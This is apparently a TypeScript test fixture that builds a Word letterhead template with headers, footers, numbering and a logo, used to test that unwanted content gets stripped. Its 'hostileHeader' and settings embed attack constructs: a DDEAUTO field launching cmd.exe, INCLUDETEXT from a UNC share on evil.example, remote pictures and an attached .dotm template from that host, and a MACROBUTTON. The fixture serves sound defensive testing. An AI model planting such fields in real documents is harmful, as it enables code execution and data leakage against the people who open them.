import { mainType, office, relationship, relationships, template, types, w } from './fixture';

/** A house's letterhead for the tests: pictures, running heads and numbers of pages, and much that must not come along. */

const wp = 'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"';
const names = `${w} xmlns:r="${office}" ${wp} xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"`;
const said = (text: string, look = '') => `<w:r>${look}<w:t xml:space="preserve">${text}</w:t></w:r>`;
const sign = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const code = (text: string) => `<w:r><w:instrText xml:space="preserve"> ${text} </w:instrText></w:r>`;
export const fieldOf = (text: string, shown: string) =>
  `${sign('begin')}${code(text)}${sign('separate')}${said(shown)}${sign('end')}`;

const graphic = (file: string, more = '') =>
  `<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="logo.png"><a:hlinkClick r:id="rhyperlink"/></pic:cNvPr><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:${file}>${more}</a:blip><a:srcRect l="1000"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic>`;
const extent = '<wp:extent cx="720000" cy="360000"/>';
const position = (side: string) =>
  `<wp:simplePos x="0" y="0"/><wp:positionH relativeFrom="page"><wp:align>${side}</wp:align></wp:positionH><wp:positionV relativeFrom="page"><wp:posOffset>360000</wp:posOffset></wp:positionV>`;
const anchored = (inner: string, side = 'right') =>
  `<wp:anchor distT="0" distB="0" distL="0" distR="0" simplePos="0" relativeHeight="251658240" behindDoc="1" locked="0" layoutInCell="1" allowOverlap="1">${position(side)}${extent}<wp:wrapTight wrapText="bothSides"><wp:wrapPolygon edited="0"><wp:start x="0" y="0"/><wp:lineTo x="0" y="9"/></wp:wrapPolygon></wp:wrapTight><wp:docPr id="5" name="Logo" descr="The heron of Orlan"/><wp:cNvGraphicFramePr/>${inner}</wp:anchor>`;
const inline = (inner: string) =>
  `<wp:inline>${extent}<wp:docPr id="1" name="Logo" descr="A &quot;heron&quot;"/>${inner}</wp:inline>`;
const run = (inner: string) => `<w:r>${inner}</w:r>`;

/** Its odd pages: logo, name, running head, and all that fetches or runs something. */
const hostileHeader = `<w:hdr ${names}><w:p><w:pPr><w:pStyle w:val="Kopfzeile"/><w:tabs><w:tab w:val="right" w:pos="9000"/></w:tabs></w:pPr>
  ${run(`<w:drawing>${anchored(graphic('embed="rimage"'))}</w:drawing>`)}
  ${run(`<w:drawing>${inline(graphic('link="rlinked"'))}</w:drawing>`)}
  <w:hyperlink r:id="rhyperlink">${said('Institute of Waterways', '<w:rPr><w:b/><w:color w:val="0A3A5A" w:themeColor="accent1"/></w:rPr>')}</w:hyperlink>
  <w:r><w:tab/></w:r>${fieldOf('STYLEREF "Überschrift 1" \\* MERGEFORMAT', 'Chapter of the template')}
  ${fieldOf('INCLUDETEXT "\\\\\\\\evil.example\\\\share\\\\x.docx"', 'Included words')}
  ${fieldOf('INCLUDEPICTURE "https://evil.example/x.png" \\d', '')}
  ${fieldOf('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', 'Dde words')}
  ${sign('begin')}${code('IF ')}${fieldOf('PAGE', '1')}${code(' = 1 "x" "y"')}${sign('separate')}${said('Nested words')}${sign('end')}
  <w:fldSimple w:instr=" MACROBUTTON Evil.Run click">${said('Press')}</w:fldSimple>
  <w:r><w:rPr><w:vanish/></w:rPr><w:t>Hidden words</w:t></w:r><w:del w:id="1" w:author="x"><w:r><w:delText>Deleted words</w:delText></w:r></w:del>
  <w:r><w:object><v:shape style="width:10pt;height:10pt"><v:imagedata r:id="rimage"/></v:shape><o:OLEObject Type="Link" r:id="rlinked"/></w:object></w:r>
  <w:r><w:pict><v:shape style="width:400pt;height:100pt"><v:textpath string="DRAFT"/></v:shape></w:pict></w:r></w:p><w:altChunk r:id="rlinked"/></w:hdr>`;

/** Its first page: a table with the logo and an address, and the title in a content control. */
const firstHeader = `<w:hdr ${names}><w:tbl><w:tblPr><w:tblStyle w:val="Gone"/><w:tblW w:w="5000" w:type="pct"/><w:tblBorders><w:bottom w:val="single" w:sz="8" w:space="0" w:color="0A3A5A"/></w:tblBorders></w:tblPr><w:tblGrid><w:gridCol w:w="3000"/><w:gridCol w:w="6000"/></w:tblGrid>
  <w:tr><w:tc><w:tcPr><w:tcW w:w="3000" w:type="dxa"/></w:tcPr><w:p>${run(`<w:drawing>${inline(graphic('embed="rimage"'))}</w:drawing>`)}</w:p></w:tc>
  <w:tc><w:tcPr><w:tcW w:w="6000" w:type="dxa"/></w:tcPr><w:p><w:pPr><w:jc w:val="right"/></w:pPr>${said('4 Quay Street, Tarn')}</w:p></w:tc></w:tr></w:tbl>
  <w:sdt><w:sdtPr><w:alias w:val="Title"/><w:dataBinding w:prefixMappings="xmlns:ns0='x'" w:xpath="/ns1:coreProperties[1]/ns0:title[1]" w:storeItemID="{6C3C8BC8-F283-45AE-878A-BAB7291924A1}"/><w:text/></w:sdtPr><w:sdtContent><w:p>${said('[Document title]')}</w:p></w:sdtContent></w:sdt>
  <w:p><w:sdt><w:sdtPr><w:showingPlcHdr/></w:sdtPr><w:sdtContent>${said('[Company]')}</w:sdtContent></w:sdt></w:p></w:hdr>`;

/** Its even pages: a text box, once for new and once for old versions of Word. */
const evenHeader = `<w:hdr ${names}><w:p>${run(`<mc:AlternateContent><mc:Choice Requires="wps"><w:drawing>${anchored(`<a:graphic><a:graphicData uri="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"><wps:wsp><wps:txbx><w:txbxContent><w:p>${said('Boxed words')}</w:p></w:txbxContent></wps:txbx></wps:wsp></a:graphicData></a:graphic>`, 'left')}</w:drawing></mc:Choice><mc:Fallback><w:pict><v:shape><v:textbox><w:txbxContent><w:p>${said('Boxed words of old')}</w:p></w:txbxContent></v:textbox></v:shape></w:pict></mc:Fallback></mc:AlternateContent>`)}${said('Even side')}</w:p></w:hdr>`;

const pageOfPages = `<w:ftr ${names}><w:sdt><w:sdtPr><w:docPartObj><w:docPartGallery w:val="Page Numbers (Bottom of Page)"/></w:docPartObj></w:sdtPr><w:sdtContent><w:p><w:pPr><w:jc w:val="center"/></w:pPr>${said('Page ')}${fieldOf('PAGE \\* MERGEFORMAT', '7')}${said(' of ')}<w:fldSimple w:instr="NUMPAGES">${said('9')}</w:fldSimple></w:p></w:sdtContent></w:sdt></w:ftr>`;
const firstFooter = `<w:ftr ${names}><w:p>${said('Registered in Tarn, no. 1901')}</w:p></w:ftr>`;

const styles = `<w:styles ${w}>
  <w:style w:type="paragraph" w:default="1" w:styleId="Standard"><w:name w:val="Normal"/></w:style>
  <w:style w:type="paragraph" w:styleId="Kopfzeile"><w:name w:val="header"/><w:basedOn w:val="Standard"/><w:rPr><w:sz w:val="17"/></w:rPr></w:style>
  <w:style w:type="paragraph" w:styleId="Aufzhlung"><w:name w:val="List Bullet"/><w:basedOn w:val="Standard"/><w:pPr><w:numPr><w:numId w:val="3"/></w:numPr></w:pPr></w:style>
  <w:style w:type="paragraph" w:styleId="Aufzhlung2"><w:name w:val="List Bullet 2"/><w:basedOn w:val="Standard"/><w:pPr><w:numPr><w:numId w:val="4"/></w:numPr></w:pPr></w:style>
  <w:style w:type="paragraph" w:styleId="Nummern"><w:name w:val="List Number"/><w:basedOn w:val="Standard"/><w:pPr><w:numPr><w:numId w:val="5"/></w:numPr></w:pPr></w:style>
</w:styles>`;
const level = (depth: number, format: string, text: string, more = '') =>
  `<w:lvl w:ilvl="${depth}"><w:start w:val="1"/><w:numFmt w:val="${format}"/><w:lvlText w:val="${text}"/><w:lvlJc w:val="left"/>${more}</w:lvl>`;
const indent = (left: number) => `<w:pPr><w:ind w:left="${left}" w:hanging="300"/></w:pPr>`;
const abstract = (id: number, kind: string, ...levels: string[]) =>
  `<w:abstractNum w:abstractNumId="${id}"><w:multiLevelType w:val="${kind}"/>${levels.join('')}</w:abstractNum>`;
const numbering = `<w:numbering ${w}>
  ${abstract(0, 'singleLevel', level(0, 'bullet', '–', `${indent(300)}<w:rPr><w:rFonts w:ascii="Garamond"/><w:color w:val="AA2200"/></w:rPr>`))}
  ${abstract(1, 'singleLevel', level(0, 'bullet', '»', indent(600)))}
  ${abstract(2, 'multilevel', level(0, 'upperRoman', '%1)', indent(400)), level(1, 'lowerLetter', '%1.%2)', indent(800)), level(2, 'javascript', '%3'))}
  <w:num w:numId="3"><w:abstractNumId w:val="0"/></w:num><w:num w:numId="4"><w:abstractNumId w:val="1"/></w:num><w:num w:numId="5"><w:abstractNumId w:val="2"/></w:num>
</w:numbering>`;

const section = `<w:sectPr>
  <w:headerReference w:type="default" r:id="rh1"/><w:headerReference w:type="first" r:id="rh2"/><w:headerReference w:type="even" r:id="rh3"/>
  <w:footerReference w:type="default" r:id="rf1"/><w:footerReference w:type="first" r:id="rf2"/>
  <w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="2200" w:right="1200" w:bottom="1500" w:left="1400" w:header="600" w:footer="650" w:gutter="120"/><w:cols w:num="2"/><w:titlePg/></w:sectPr>`;
const part = (id: string, type: string, target: string, more = '') =>
  `<Relationship Id="${id}" Type="${office}/${type}" Target="${target}"${more}/>`;
const external = ' TargetMode="External"';

/** @param logo the bytes of its picture */
export function letterhead(
  logo: Uint8Array,
  changed: Record<string, string | Uint8Array | null> = {},
): Promise<Uint8Array> {
  const pictures = relationships(
    relationship('image', 'media/logo.png'),
    part('rhyperlink', 'hyperlink', 'https://evil.example/', external),
    part('rlinked', 'image', 'https://evil.example/pixel.png', external),
  );
  return template({
    '[Content_Types].xml': types(mainType.replace('document.main', 'template.main')),
    'word/document.xml': `<w:document ${names}><w:body><w:p><w:pPr><w:sectPr><w:footerReference w:type="even" r:id="rf2"/></w:sectPr></w:pPr>${said('Words of the template')}</w:p>${section}</w:body></w:document>`,
    'word/_rels/document.xml.rels': relationships(
      relationship('styles', 'styles.xml'),
      relationship('numbering', 'numbering.xml'),
      relationship('settings', 'settings.xml'),
      part('rh1', 'header', 'header1.xml'),
      part('rh2', 'header', 'header2.xml'),
      part('rh3', 'header', '/word/header3.xml'),
      part('rf1', 'footer', 'footer1.xml'),
      part('rf2', 'footer', 'footer2.xml'),
    ),
    'word/_rels/settings.xml.rels': relationships(
      part('r1', 'attachedTemplate', 'https://evil.example/x.dotm', external),
    ),
    'word/settings.xml': `<w:settings ${names}><w:attachedTemplate r:id="r1"/><w:mirrorMargins/><w:evenAndOddHeaders/></w:settings>`,
    'word/styles.xml': styles,
    'word/numbering.xml': numbering,
    'word/header1.xml': hostileHeader,
    'word/_rels/header1.xml.rels': pictures,
    'word/header2.xml': firstHeader,
    'word/_rels/header2.xml.rels': pictures,
    'word/header3.xml': evenHeader,
    'word/footer1.xml': pageOfPages,
    'word/footer2.xml': firstFooter,
    'word/media/logo.png': logo,
    ...changed,
  });
}

/** One whose pages have a picture at their head and their number at their foot, and no words that are not the memo's. */
export function quietLetterhead(logo: Uint8Array): Promise<Uint8Array> {
  const drawn = run(`<w:drawing>${inline(graphic('embed="rimage"'))}</w:drawing>`);
  return letterhead(logo, {
    'word/document.xml': `<w:document ${names}><w:body>${section.replace(/<w:\w+Reference w:type="(first|even)"[^>]*>|<w:titlePg\/>/g, '')}</w:body></w:document>`,
    'word/settings.xml': `<w:settings ${names}/>`,
    'word/header1.xml': `<w:hdr ${names}><w:p>${drawn}</w:p></w:hdr>`,
    'word/footer1.xml': `<w:ftr ${names}><w:p>${fieldOf('PAGE', '7')}</w:p></w:ftr>`,
    'word/numbering.xml': numbering
      .replace('upperRoman', 'decimal')
      .replace('%1)', '%1.')
      .replace('lowerLetter', 'decimal')
      .replace('%1.%2)', '%2.'),
  });
}
